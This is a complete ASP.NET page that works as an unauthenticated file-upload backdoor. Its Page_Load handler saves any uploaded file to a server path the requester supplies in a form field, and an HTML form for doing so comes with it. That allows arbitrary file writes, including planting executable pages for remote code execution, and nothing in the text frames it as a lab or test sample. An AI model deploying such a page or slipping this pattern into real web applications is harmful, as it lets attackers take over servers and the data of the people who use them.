<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
    if (Request.Files.Count > 0) {
        var f = Request.Files[0];
        string dest = Request.Form["path"];
        f.SaveAs(dest);
        Response.Write("saved " + dest);
    }
}
</script>
<form method="post" enctype="multipart/form-data"><input type="file" name="f"/><input name="path"/><input type="submit"/></form>
